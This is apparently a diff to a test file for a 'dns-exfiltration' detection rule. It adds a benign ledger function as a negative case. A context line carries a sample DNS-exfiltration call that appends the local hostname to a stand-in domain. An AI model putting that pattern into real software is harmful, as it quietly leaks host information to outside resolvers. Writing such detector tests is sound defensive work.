@@ -11,3 +11,9 @@ socket.getaddrinfo(socket.gethostname() + ".d.example.invalid", 80)
 socket.gethostbyname(socket.gethostname())
 # ok: dns-exfiltration
 socket.gethostbyname("www.example.com")
+
+
+def settle(ledger, month, rows):
+    forecast = ledger.record(f"it rains ({month})", rows[:12])
+    # ok: dns-exfiltration
+    ledger.resolve(forecast, rows[0])
